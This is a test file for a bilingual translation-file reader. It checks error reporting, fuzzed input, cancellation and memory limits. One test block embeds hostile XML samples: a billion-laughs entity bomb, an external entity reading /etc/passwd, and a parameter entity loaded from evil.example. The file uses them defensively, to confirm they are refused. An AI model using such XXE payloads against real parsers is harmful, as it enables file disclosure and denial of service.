import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ExchangeError } from '../../lib/files/exchange-error.ts';
import { readBitext, readParts, type ReadFormat } from '../../lib/exchange/read.ts';
import { writeBitext } from '../../lib/exchange/write.ts';
import { full, utf8 } from './bitexts.ts';

const unit = '<tu><tuv xml:lang="zh"><seg>河</seg></tuv><tuv xml:lang="en"><seg>River</seg></tuv></tu>';
const tmx = (body: string, before = '') => `${before}<tmx version="1.4"><header/><body>\n${body}\n</body></tmx>`;

describe('what is wrong with a file is told, with the place', () => {
  test.each<[string, ReadFormat, string, object]>([
    ['a tag that is not closed', 'tmx', tmx('<tu>\n  <tuv xml:lang="zh"><seg>河</tuv></tu>'), { problem: 'malformed', parameters: { line: 3, column: 34 } }],
    ['a file that ends in the middle', 'tmx', tmx(unit).slice(0, -20), { problem: 'malformed' }],
    ['a bare ampersand', 'tmx', tmx(unit.replace('River', 'R & B')), { problem: 'malformed' }],
    ['an entity that nobody declared', 'tmx', tmx(unit.replace('River', '&nbsp;')), { problem: 'malformed' }],
    ['a character that XML forbids', 'tmx', tmx(unit.replace('River', 'a\u0001')), { problem: 'malformed' }],
    ['text after the end', 'tmx', `${tmx(unit)}more`, { problem: 'malformed' }],
    ['some other XML', 'tmx', '<html><body/></html>', { problem: 'otherFormat', parameters: { format: 'TMX', found: 'html' } }],
    ['TMX under the name of XLIFF', 'xliff', tmx(unit), { problem: 'otherFormat', parameters: { format: 'XLIFF', found: 'tmx' } }],
    ['nothing at all as XML', 'tmx', '', { problem: 'empty' }],
    ['no unit', 'tmx', tmx(''), { problem: 'empty' }],
    ['no English', 'tmx', tmx(unit.replace('"en"', '"de-DE"')), { problem: 'languageMissing', parameters: { missing: 'en', found: 'zh, de-DE' } }],
    ['neither language', 'tmx', tmx('<tu><tuv xml:lang="fr"><seg>a</seg></tuv></tu>'), { problem: 'languageMissing', parameters: { missing: 'zh', found: 'fr' } }],
    ['no target language in XLIFF', 'xliff', '<xliff version="2.1" srcLang="zh"><file id="f"><unit id="u"><segment><source>河</source></segment></unit></file></xliff>', { problem: 'languageMissing', parameters: { missing: 'en' } }],
    ['a quotation mark that is not closed', 'csv', 'zh,en\n河,River\n"水,Water\n', { problem: 'malformed', parameters: { line: 3, column: 1 } }],
    ['a table in one language', 'csv', '河,水\n山,石\n', { problem: 'languageMissing', parameters: { missing: 'en', found: 'zh' } }],
    ['an empty table', 'tsv', '\n\n', { problem: 'empty' }],
    ['JSON that breaks off', 'json', '{"format":"duizhao-bitext","version":1,"documents":[\n{"titles":{}', { problem: 'malformed', parameters: { line: 2 } }],
    ['JSON with an error inside', 'json', '{"format":"duizhao-bitext","version":1,"documents":[\n{"titles":{},"paragraphs":[\n{"rows":[}]}]}', { problem: 'malformed' }],
    ['JSON of something else', 'json', '{"name":"duizhao"}', { problem: 'otherFormat' }],
    ['JSON of a later version', 'json', '{"format":"duizhao-bitext","version":2,"documents":[]}', { problem: 'otherFormat', parameters: { found: 'duizhao-bitext 2' } }],
    ['rows that are none', 'json', '{"format":"duizhao-bitext","version":1,"documents":[{"titles":{},"paragraphs":[{"rows":[{"zh":"河"}]}]}]}', { problem: 'malformed' }],
    ['no JSON', 'json', 'hello', { problem: 'malformed' }],
  ])('%s', async (_what, format, text, expected) => {
    const error: unknown = await readBitext(format, utf8(text)).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(ExchangeError);
    expect(error).toMatchObject(expected);
  });
});

test.each(['tmx', 'xliff', 'tsv', 'csv', 'json'] as const)('a file of %s that was damaged anywhere is read or refused in our own words', async (format) => {
  const bytes = new TextEncoder().encode(writeBitext(format, [full], { version: '1', complete: true }) as string);
  const damage = fc.record({ at: fc.nat(bytes.length - 1), cut: fc.nat(40), put: fc.uint8Array({ maxLength: 4 }) });
  await fc.assert(
    fc.asyncProperty(damage, async ({ at, cut, put }) => {
      const damaged = [bytes.subarray(0, at), put, bytes.subarray(at + cut)];
      const outcome: unknown = await readBitext(format, damaged).catch((reason: unknown) => reason);
      if (!Array.isArray(outcome)) expect(outcome).toBeInstanceOf(ExchangeError);
    }),
    { numRuns: 300 },
  );
});

test('bytes of any kind are read or refused in our own words', async () => {
  await fc.assert(
    fc.asyncProperty(fc.uint8Array({ maxLength: 300 }), fc.constantFrom<ReadFormat>('tmx', 'xliff', 'tsv', 'csv', 'json', 'text'), async (bytes, format) => {
      const outcome: unknown = await readBitext(format, [bytes]).catch((reason: unknown) => reason);
      if (!Array.isArray(outcome)) expect(outcome).toBeInstanceOf(ExchangeError);
    }),
    { numRuns: 300 },
  );
});

describe('entities', () => {
  const laughs = Array.from({ length: 12 }, (_, index) => `<!ENTITY l${String(index + 1)} "${`&l${String(index)};`.repeat(10)}">`).join('\n');
  test.each([
    ['a bomb', `<!DOCTYPE tmx [\n<!ENTITY l0 "ha">\n${laughs}\n]>`, '&l12;'],
    ['a file of the machine', '<!DOCTYPE tmx [ <!ENTITY f SYSTEM "file:///etc/passwd"> ]>', '&f;'],
    ['a parameter entity from elsewhere', '<!DOCTYPE tmx [ <!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x; ]>', 'River'],
  ])('%s is refused', async (_what, doctype, text) => {
    await expect(readBitext('tmx', utf8(tmx(unit.replace('River', text), doctype)))).rejects.toMatchObject({ problem: 'entities' });
  });

  test('the usual document type is passed over', async () => {
    expect(await readBitext('tmx', utf8(tmx(unit, '<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n')))).toHaveLength(1);
  });
});

describe('long work', () => {
  function* endless(): Generator<Uint8Array> {
    const piece = new TextEncoder().encode(unit.repeat(500));
    yield new TextEncoder().encode('<tmx version="1.4"><header/><body>');
    for (;;) yield piece;
  }

  test('is stopped between two slices and returns nothing', async () => {
    const signal = { aborted: false };
    let read = 0;
    const reading = readBitext('tmx', endless(), { signal, onProgress: (bytes) => { read = bytes; signal.aborted = bytes > 400_000; } });
    await expect(reading).rejects.toMatchObject({ problem: 'cancelled' });
    expect(read).toBeLessThan(700_000);
  });

  test('lets others in between two slices, also where the file comes in one piece', async () => {
    let pauses = 0;
    const bytes = utf8(tmx(unit.repeat(8000)));
    const documents = await readBitext('tmx', bytes, { pause: () => Promise.resolve(pauses++) });
    expect(documents[0]?.paragraphs).toHaveLength(8000);
    expect(pauses).toBeGreaterThan(4);
  });

  test('is stopped where a file holds more rows than can be kept', async () => {
    await expect(readBitext('tmx', utf8(tmx(unit.repeat(21))), { mostRows: 20 })).rejects.toMatchObject({ problem: 'tooManyRows', parameters: { rows: 20 } });
    expect((await readBitext('tmx', utf8(tmx(unit.repeat(20))), { mostRows: 20 }))[0]?.paragraphs).toHaveLength(20);
  });

  test('comes in parts, none of which holds much', async () => {
    let rows = 0;
    let largest = 0;
    for await (const { paragraphs, document } of readParts('tmx', utf8(tmx(unit.repeat(5500))))) {
      expect(document).toBe(0);
      rows += paragraphs.length;
      largest = Math.max(largest, paragraphs.length);
    }
    expect({ rows, largest }).toEqual({ rows: 5500, largest: 1000 });
  });

  test.each<[string, ReadFormat, string, string]>([
    ['a quotation mark', 'csv', 'zh,en\n"', '河水,'],
    ['a line', 'tsv', 'zh\ten\n', '河水,'],
    ['a comment', 'tmx', '<tmx version="1.4"><!--', '河水,'],
    ['an element', 'tmx', '<tmx version="1.4"><body><tu><tuv xml:lang="zh"><seg>', '河水,'],
    ['an element with codes in between', 'tmx', '<tmx version="1.4"><body><tu><tuv xml:lang="zh"><seg>', '河水,<ph/>'],
    ['a string', 'json', '{"format":"duizhao-bitext","version":1,"documents":[{"titles":{"zh":"', '河水,'],
  ])('%s that never ends does not fill the memory', async (_what, format, start, rest) => {
    function* bytes(): Generator<Uint8Array> {
      const piece = new TextEncoder().encode(rest.repeat(40_000));
      yield new TextEncoder().encode(start);
      for (;;) yield piece;
    }
    await expect(readBitext(format, bytes())).rejects.toMatchObject({ problem: 'tooLong' });
  });
});
